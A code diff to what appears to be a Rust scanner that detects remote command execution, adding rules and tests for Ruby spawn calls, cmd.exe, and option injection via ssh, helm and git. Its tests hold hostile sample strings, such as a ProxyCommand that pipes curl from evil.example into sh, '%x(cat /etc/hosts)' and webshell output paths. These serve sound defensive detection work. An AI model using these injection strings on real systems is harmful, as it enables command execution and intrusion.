@@ -278,7 +278,12 @@ impl Rce {
                 RCE_SUBSTITUTION,
                 r"\b(?:python[23]?|perl|ruby|php|node)\s+-[a-z]*[ecr]\s+['\x22]",
             ),
-            (RCE_WINDOWS, r"\bcmd(?:\.exe)?\s*/[ckr]\b|\bcmd\.exe\b"),
+            // `cmd.exe` alone, except as a quoted name that a query or a rule compares
+            // with (`process.name : "cmd.exe"` in a detection rule).
+            (
+                RCE_WINDOWS,
+                r#"\bcmd(?:\.exe)?\s*/[ckr]\b|(?:^|[^'\x22])\bcmd\.exe\b|\bcmd\.exe(?:$|[^'\x22])"#,
+            ),
             (
                 RCE_WINDOWS,
                 r"\b(?:powershell|pwsh)(?:\.exe)?\s+(?:[^\n]{0,80}\s)?-(?:c|command|e|ec|enc|encodedcommand|nop|noprofile|w|windowstyle|executionpolicy|ep|file)\b",
@@ -383,6 +388,15 @@ impl Rce {
                 RCE_CONVERTER_COMMAND,
                 r#"%pipe%|\(\s*metadata\s[^)]{0,200}(?:\\c|\$\{|@\{)"#,
             ),
+            // Ruby's ways to run a command that the shell and function-call rules do not see:
+            // `Process.spawn("id")`, `Open3.capture2(…)`, `PTY.spawn`, `%x(id)`, and a call by
+            // name (`send(:system, "id")`). `%x` counts only after a separator, not in a
+            // printf format (`0x%x(`); in braces, only around more than one word, not as a
+            // log layout's `%X{traceId}`.
+            (
+                RCE_RUBY,
+                r#"\b(?:process\s*\.\s*spawn|pty\s*\.\s*spawn|open3\s*\.\s*(?:popen[23e]*|capture[23e]*|pipeline[a-z_]*)|kernel\s*\.\s*(?:spawn|open|`))\s*[(\s'\x22]|(?:^|[\s;(=,&|{\x22'`])%x(?:\{[^}]{0,200}[^a-z0-9_.}][^}]{0,200}\}|[(\[<|!][^)\]>|!]{1,200}[)\]>|!])|\b(?:send|public_send|__send__)\s*\(?\s*[:'\x22](?:system|exec|spawn|eval|instance_eval|class_eval|syscall)\b"#,
+            ),
             // Spreadsheet formulas at the start of a cell: DDE (`=cmd|' /C calc'!A0`), and a
             // URL built from other cells (`=HYPERLINK("http://x/?"&A1, ...)`).
             (
@@ -444,10 +458,11 @@ impl Rce {
                 RCE_ARGUMENT_INJECTION,
                 r#"(?:^|\s)(?:-o\s*|--output(?:-document|-dir)?(?:\s+|\s*=\s*)|output\s*=\s*|duration\s*=\s*[0-9]+[a-z]*\s+(?:[a-z]+=\S*\s+){0,4}filename\s*=\s*)['"]?[^\s'"]{0,200}\.(?:php[0-9]?|phtml|aspx?|ashx|asmx|jspx?|cgi)\b"#,
             ),
-            // Options that make git, ssh, tar or rsync run a command of the caller's choosing.
+            // Options that make git, ssh, tar, rsync, helm or npm run a command of the
+            // caller's choosing.
             (
                 RCE_ARGUMENT_INJECTION,
-                r"(?:^|\s)(?:--(?:upload-pack|receive-pack|exec|checkpoint-action|to-command|use-compress-program|rsh)\s*=|-o\s*['\x22]?proxycommand\s*=|(?:-c|--config)[\s=]+core\.(?:sshcommand|gitproxy|fsmonitor|pager|editor|hookspath)\s*=)",
+                r"(?:^|\s)(?:--(?:upload-pack|receive-pack|exec|checkpoint-action|to-command|use-compress-program|rsh)\s*=|--(?:post-renderer|script-shell)(?:\s+|\s*=\s*)[^\s-]|-o\s*['\x22]?(?:proxycommand|localcommand)\s*=|(?:-c|--config)[\s=]+core\.(?:sshcommand|gitproxy|fsmonitor|pager|editor|hookspath)\s*=)",
             ),
             (RCE_SSTI_LOOSE, r"<%=?[^%]{1,200}%>"),
             (
@@ -587,6 +602,9 @@ impl Rce {
 
     fn shell_scan(&self, text: &str, sink: &mut Sink<'_>, values: bool) {
         let b = text.as_bytes();
+        // A value anchored at both ends (`^[a-z0-9]([-a-z0-9]*[a-z0-9])?$`, a schema's
+        // `pattern`) is a regular expression: its classes and stars are no glob.
+        let regex = b.first() == Some(&b'^') && b.last() == Some(&b'$');
         let (fences, spans) = if memchr::memchr(b'`', b).is_some() {
             let fences = fences(b);
             let spans = code_spans(b, &fences);
@@ -755,6 +773,7 @@ impl Rce {
                     .all(|c| c.is_ascii_alphabetic() || matches!(c, b'*' | b'?'))
                 && evidence_after(b, i) == Evidence::End;
             let globbed = kind.is_none()
+                && !regex
                 && !emphasis
                 && !prefix_search
                 && candidate.contains(['?', '*', '['])
@@ -1459,6 +1478,40 @@ mod tests {
     }
 
     #[test]
+    fn ruby_calls_that_run_commands() {
+        rule(
+            RCE_RUBY,
+            true,
+            Kind::Value,
+            "query:q",
+            1,
+            &[
+                "Process.spawn(\"id\")",
+                "Open3.capture2e('uname -a')",
+                "PTY.spawn 'bash'",
+                "%x(cat /etc/hosts)",
+                "a=%x{ls -la}",
+                "send(:system, 'id')",
+                "Kernel.public_send(\"exec\", \"id\")",
+            ],
+        );
+        rule(
+            RCE_RUBY,
+            false,
+            Kind::Value,
+            "query:q",
+            1,
+            &[
+                "printf(\"0x%x(%d)\", a, b)",
+                "grew 40%x(over 2 years)",
+                "send(:notify, user)",
+                "%d [%t] %X{traceId} %X{span.id} - %msg%n",
+                "the process spawns workers",
+            ],
+        );
+    }
+
+    #[test]
     fn detects_chained_and_obfuscated_commands() {
         flags(
             "rce",
@@ -1500,6 +1553,8 @@ mod tests {
                 "${{<%[%'\"}}%\\.",
                 "--upload-pack=touch /tmp/pwned",
                 "-oProxyCommand=curl evil.example|sh",
+                "1.2.0 --post-renderer /tmp/pr.sh",
+                "-oLocalCommand=id",
                 "https://example.jp/a.pdf\u{FF02} -o C:\\inetpub\\wwwroot\\shell.aspx \u{FF02}https://evil.example/s",
                 "x --output=/var/www/html/s.php",
                 "output=/opt/activemq/webapps/admin/shell.jsp",
@@ -1518,6 +1573,7 @@ mod tests {
                 "the output index.php returns is empty",
                 "-o index.html",
                 "level=error filename=/srv/app/index.php line=42",
+                "helm upgrade web ./chart --post-renderer --help",
             ],
         );
     }
